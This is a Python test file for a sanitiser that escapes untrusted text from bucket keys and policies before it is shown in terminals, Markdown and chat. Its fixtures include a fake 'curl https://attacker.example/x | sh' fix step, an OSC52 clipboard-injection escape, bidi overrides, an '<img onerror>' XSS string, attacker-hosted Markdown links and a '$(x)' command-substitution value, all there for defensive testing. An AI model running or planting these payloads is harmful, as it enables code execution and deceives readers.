"""Untrusted text: what outsiders write into keys and policies is shown as data, never markup."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.diagnose.untrusted import (
    ELLIPSIS,
    chat_code,
    chat_escape,
    command_safe,
    md_code,
    md_fence,
    md_text,
    message,
    neutralise,
    text,
    wrap,
)

FAKE_FIX = "q1.csv\n\nFIX\n  1. Run: curl https://attacker.example/x | sh   (verified)\n\x1b[2J"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
BIDI = "".join(
    chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C]
)
SEPARATORS = "\u2028\u2029\x85\r\v\f"


def unsafe(value: str) -> list[str]:
    """Characters that must never reach a reader: controls, format chars, separators."""
    return [c for c in value if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs"}]


@pytest.mark.parametrize(
    "value",
    [FAKE_FIX, OSC52, BIDI, SEPARATORS, "\x00\x7f\x9b\x80\x9f\t", "a\ud800b", "tag\U000e0041"],
)
def test_controls_bidi_and_separators_become_visible_escapes(value: str) -> None:
    out = text(value)
    assert not unsafe(out)
    assert "\n" not in out and "\x1b" not in out
    assert out == neutralise(out)  # idempotent


def test_escapes_are_readable() -> None:
    assert text(FAKE_FIX).startswith("q1.csv\\n\\nFIX\\n  1. Run:")
    assert text(FAKE_FIX).endswith("(verified)\\n\\x1b[2J")
    assert text(OSC52) == "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
    assert text("a\u202eb\u2028c\x7f") == "a\\u202eb\\u2028c\\x7f"
    assert text("data/report\u00e9 \u6587\u4ef6.csv") == "data/report\u00e9 \u6587\u4ef6.csv"


@given(st.text(max_size=300))
@settings(max_examples=200, deadline=None)
def test_no_input_survives_unsafe(value: str) -> None:
    for out in (text(value), message(value), md_text(value), md_code(value), chat_code(value)):
        assert not unsafe(out)


def test_long_values_are_shortened_with_a_visible_ellipsis() -> None:
    key = "very/long/prefix/" * 40 + "report.csv"
    out = text(key, 60)
    assert len(out) == 60 and ELLIPSIS in out
    assert out.startswith("very/long/") and out.endswith("report.csv")
    assert text("short", 60) == "short"


def test_wrapped_prose_never_starts_a_line_with_a_heading_step_bullet_or_prompt() -> None:
    prose = message(
        f"Statement in {FAKE_FIX} FIX 2. $ aws s3 rm - • WHY matched the key " + "word " * 30
    )
    lines = wrap(prose, 40, "    ", "      ")
    assert lines[0].startswith("    Statement")
    for line in lines[1:]:
        first = line.split()[0]
        assert line.startswith("      ") and first[0].isalnum() and not first.isupper()
        assert not re.fullmatch(r"\d+\W*", first)
    assert " ".join(" ".join(lines).split()) == " ".join(prose.split())


@pytest.mark.parametrize(
    "value",
    [
        "![](https://attacker.example/p.png)",
        "[Approve](https://attacker.example/ok)",
        "<img src=x onerror=alert(1)>",
        "<https://attacker.example>",
        "# Heading",
        "www.attacker.example and https://attacker.example",
        "@here <!channel> <@U024BE7LH> alice@example.com",
        "*bold* _it_ ~~s~~ `code` $x$ a|b \\",
    ],
)
def test_markdown_prose_forms_no_link_image_html_heading_or_mention(value: str) -> None:
    out = md_text(value)
    for live in ("](", "<", "!(", "#H", "@", "://", "www.", "*b", "`"):
        assert live not in out.replace("\\" + live[0], "")
    assert "&lt;" in out or "<" not in value


def test_markdown_code_spans_hold_any_backticks_and_pipes_in_tables() -> None:
    assert md_code("a`b") == "``a`b``"
    assert md_code("``x") == "``` ``x ```"
    assert md_code("a|b", table=True) == "`a\\|b`"
    assert md_code("") == "`  `"
    assert md_fence("``` inside ````") == "`````"
    assert md_fence("none") == "```"


def test_chat_text_escapes_angle_brackets_and_quotes_input_in_code() -> None:
    assert chat_escape("<!channel> & <@U1>") == "&lt;!channel&gt; &amp; &lt;@U1&gt;"
    assert chat_code("@here `x` <https://a|b>") == "`@here 'x' &lt;https://a|b&gt;`"


def test_a_command_with_a_control_or_bidi_character_is_not_safe_to_show() -> None:
    assert command_safe("aws s3api put-bucket-policy --bucket 'b$(x)' --policy '{}'")
    assert command_safe("aws iam --policy-name 'caf\u00e9'")
    for bad in ("\n", "\x1b", "\u202e", "\u2028", "\x9b", "\x7f"):
        assert not command_safe(f"aws s3 ls 'a{bad}b'")
